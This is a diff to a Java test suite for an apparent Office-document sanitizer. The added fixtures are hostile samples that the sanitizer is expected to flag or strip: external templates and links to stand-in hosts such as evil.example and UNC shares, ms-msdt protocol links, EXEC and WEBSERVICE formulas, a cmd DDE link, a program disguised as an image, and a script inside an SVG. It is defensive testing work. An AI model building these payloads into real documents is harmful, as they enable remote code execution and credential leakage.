@@ -9,6 +9,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import hmnet.formats.base.Note;
 import hmnet.formats.base.Unreadable;
 import hmnet.formats.base.archive.Archive;
+import hmnet.formats.base.xml.XmlDocument;
 import java.nio.charset.StandardCharsets;
 import java.util.LinkedHashMap;
 import java.util.Map;
@@ -35,7 +36,8 @@ class HostileOfficeTest {
     }
 
     private static String body(String body) {
-        return "<?xml version=\"1.0\"?><w:document xmlns:w=\"urn:w\" xmlns:r=\"urn:r\" xmlns:v=\"urn:v\"><w:body>"
+        return "<?xml version=\"1.0\"?><w:document xmlns:w=\"urn:w\" xmlns:r=\"urn:r\" xmlns:v=\"urn:v\""
+                + " xmlns:o=\"urn:o\" xmlns:a=\"urn:a\"><w:body>"
                 + body + "</w:body></w:document>";
     }
 
@@ -65,6 +67,13 @@ class HostileOfficeTest {
         return members;
     }
 
+    private static Map<String, byte[]> drawing(byte[] content) {
+        var members = Pieces.word();
+        members.put("word/_rels/document.xml.rels", relations("image", "media/a.png"));
+        members.put("word/media/a.png", content);
+        return members;
+    }
+
     private static Map<String, byte[]> table(String sheet) {
         var members = new LinkedHashMap<String, byte[]>();
         members.put(
@@ -83,6 +92,24 @@ class HostileOfficeTest {
 
     private static Map<String, byte[]> formula(String formula) {
         return table("<c><f>" + formula + "</f><v>1</v></c>");
+    }
+
+    /// What a part is called is its sender's choice.
+    private static Map<String, byte[]> elsewhere(Map<String, byte[]> table) {
+        var moved = new LinkedHashMap<String, byte[]>();
+        table.forEach((name, content) -> moved.put(
+                name.replace("xl/", "x/"),
+                name.startsWith("xl/")
+                        ? content
+                        : latin(new String(content, StandardCharsets.ISO_8859_1).replace("xl/", "x/"))));
+        return moved;
+    }
+
+    /// Something in the document that names an address which is given as a link.
+    private static Map<String, byte[]> naming(String body) {
+        var members = leadingOut("hyperlink", "https://evil.example/a", "External");
+        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
+        return members;
     }
 
     private static Map<String, Map<String, byte[]>> acting() {
@@ -111,7 +138,16 @@ class HostileOfficeTest {
         files.put("a picture of a share, mode in another case", leadingOut("image", "file://evil/a.png", "EXTERNAL"));
         files.put("a picture of a share without a mode", leadingOut("image", "file://evil/a.png", ""));
         files.put("a picture drawn from a share", words("<v:imagedata src=\"\\\\evil\\a.png\"/>"));
-        files.put("a template of elsewhere", leadingOut("attachedTemplate", "https://evil.example/a.dotm", "External"));
+        files.put(
+                "another address behind a place in the document",
+                words(BEGIN + run("HYPERLINK \\l \"b\" \"\\\\\\\\evil\\\\a\"") + END));
+        files.put("a program's own address behind a place", words(BEGIN + run("HYPERLINK \\l b ms-msdt:/id x") + END));
+        files.put("a picture drawn by its link", words("<v:imagedata o:href=\"https://evil.example/a.png\"/>"));
+        files.put("a template by the address of a link", naming("<w:template r:id=\"r1\"/>"));
+        files.put("a picture by the address of a link", naming("<a:blip r:link=\"r1\"/>"));
+        files.put("a drawing that is a program", drawing(latin("MZ a program")));
+        files.put("a type that only sounds like a drawing", with("image", "media/a.bin", "image/gif", latin("GIF89a")));
+        files.put("a drawing that is a page", drawing(latin("<html><script>")));
         files.put("a frame", leadingOut("frame", "https://evil.example", "External"));
         files.put("a chunk of another format", with("aFChunk", "a.html", "x", latin("<html/>")));
         files.put("a chunk by its element", words("<w:altChunk r:id=\"r1\"/>"));
@@ -130,15 +166,22 @@ class HostileOfficeTest {
         files.put("a function of an add-in", formula("_xll.RUN()"));
         files.put("a function nobody knows yet", formula("_xlfn.TOMORROW(1)"));
         files.put("a link to a share by a formula", formula("HYPERLINK(\"\\\\evil\\a\")"));
+        files.put("a link that is put together", formula("HYPERLINK(\"fi\"&amp;\"le:\"&amp;A1)"));
+        files.put("a link that a cell names", formula("HYPERLINK(A1)"));
+        files.put("a link to another program", formula("HYPERLINK(\"ms-msdt:x\")"));
+        files.put("a program by a macro's function", formula("EXEC(\"calc\")"));
+        files.put("what a macro asks of a machine", formula("GET.WORKSPACE(1)"));
+        files.put("a table in another folder", elsewhere(formula("WEBSERVICE(\"https://evil.example\")")));
+        files.put("a formula in an attribute", table("<cacheField formula=\"WEBSERVICE(A1)\"/>"));
         files.put("a condition that fetches", table("<cfRule><formula>WEBSERVICE(A1)</formula></cfRule>"));
         files.put("a link of DDE", table("<ddeLink ddeService=\"cmd\"/>"));
         var connections = table("<x/>");
         connections.put("xl/_rels/workbook.xml.rels", relations("connections", "connections.xml"));
         connections.put("xl/connections.xml", latin("<connections/>"));
         files.put("connections", connections);
-        var elsewhere = table("<x/>");
-        elsewhere.put("xl/_rels/workbook.xml.rels", relations("externalLink", "l.xml"));
-        files.put("links to other tables", elsewhere);
+        var leading = table("<x/>");
+        leading.put("xl/_rels/workbook.xml.rels", relations("externalLink", "l.xml"));
+        files.put("links to other tables", leading);
         return files;
     }
 
@@ -169,6 +212,87 @@ class HostileOfficeTest {
                 .isEqualTo("shown");
         assertThat(outcome(leadingOut("hyperlink", "https://hospital.example/", "External")))
                 .isEqualTo("shown");
+    }
+
+    /// Every line of a table of contents is a link and a page number within what the table was worked out to.
+    @Test
+    void aTableOfContentsStays() {
+        var separate = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>";
+        var line = BEGIN + run("HYPERLINK \\l \"_Toc1\"") + separate + "<w:t>1. 経過</w:t>" + BEGIN
+                + run("PAGEREF _Toc1 \\h") + separate + "<w:t>2</w:t>" + END + END;
+        assertThat(outcome(words(BEGIN + run("TOC \\o \"1-3\"") + separate + line + line + END)))
+                .isEqualTo("shown");
+    }
+
+    /// A program that opens it needs the names of attributes as they were, with what stands in front of the colon.
+    @Test
+    void everyPartIsWrittenWithTheNamesItCameWith() throws Unreadable {
+        var body =
+                "<w:p w:rsidR=\"1\"><w:hyperlink r:id=\"r1\" w:history=\"1\"><w:t xml:space=\"preserve\"> 語</w:t></w:hyperlink></w:p>";
+        var members = leadingOut("hyperlink", "https://hospital.example/", "External");
+        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
+        for (var member : Archive.members(OtherFile.read(zip(members), "x.docx").content(), name -> true)) {
+            var root = XmlDocument.read(member.content()).root();
+            if (member.name().equals("word/document.xml")) {
+                assertThat(root.namespace()).isEqualTo("urn:w");
+                assertThat(new String(member.content(), StandardCharsets.UTF_8)).contains(body);
+            }
+        }
+    }
+
+    /// A letter that was begun from a template, or written to many, is an honest one.
+    @Test
+    void aTemplateAndAddressesOfElsewhereAreLeftOutAndThatIsTold() throws Unreadable {
+        var members = with(
+                "settings",
+                "settings.xml",
+                "wordprocessingml.settings+xml",
+                latin(
+                        "<w:settings xmlns:w=\"urn:w\" xmlns:r=\"urn:r\"><w:attachedTemplate r:id=\"r1\"/>"
+                                + "<w:mailMerge><w:query w:val=\"SELECT evil\"/></w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>"));
+        members.put(
+                "word/_rels/settings.xml.rels",
+                latin(
+                        "<Relationships><Relationship Id=\"r1\" Type=\"urn:x/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>"
+                                + "<Relationship Id=\"r2\" Type=\"urn:x/mailMergeSource\" Target=\"file:///evil.xlsx\" TargetMode=\"External\"/></Relationships>"));
+        var file = OtherFile.read(zip(members), "x.docx");
+        assertThat(all(file.content())).contains("w:zoom").doesNotContain("evil", "attachedTemplate", "mailMerge");
+        assertThat(file.notes()).extracting(Note::code).contains("links-removed");
+    }
+
+    @Test
+    void aChartShowsWithoutTheTableItWasDrawnFrom() throws Unreadable {
+        var members = with(
+                "chart",
+                "charts/chart1.xml",
+                "drawingml.chart+xml",
+                latin(
+                        "<c:chartSpace xmlns:c=\"urn:c\" xmlns:r=\"urn:r\"><c:v>7.4</c:v><c:externalData r:id=\"r1\"/></c:chartSpace>"));
+        members.put("word/charts/_rels/chart1.xml.rels", relations("package", "../embeddings/Book1.xlsx"));
+        members.put("word/embeddings/Book1.xlsx", zip(Pieces.word()));
+        assertThat(all(OtherFile.read(zip(members), "x.docx").content()))
+                .contains("7.4")
+                .doesNotContain("embeddings", "externalData");
+        members.put("word/_rels/document.xml.rels", relations("image", "embeddings/Book1.xlsx"));
+        assertThat(outcome(members)).as("as anything else").isEqualTo("active-content");
+    }
+
+    @Test
+    void ofADrawingInTwoKindsThePlainOneStays() throws Unreadable {
+        var members = words("<a:blip r:embed=\"r1\"><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\">"
+                + "<asvg:svgBlip xmlns:asvg=\"urn:s\" r:embed=\"r2\"/></a:ext></a:extLst></a:blip>");
+        members.put(
+                "[Content_Types].xml",
+                latin(new String(
+                                Pieces.types("/word/document.xml", "wordprocessingml.document.main+xml"),
+                                StandardCharsets.ISO_8859_1)
+                        .replace("<Override", "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/><Override")));
+        members.put("word/_rels/document.xml.rels", relations("image", "media/a.png", "image", "media/a.svg"));
+        members.put("word/media/a.png", Pieces.picture());
+        members.put("word/media/a.svg", latin("<svg><script>alert(1)</script></svg>"));
+        assertThat(all(OtherFile.read(zip(members), "x.docx").content()))
+                .contains("a:blip", "a.png")
+                .doesNotContain("svg", "script");
     }
 
     @Test
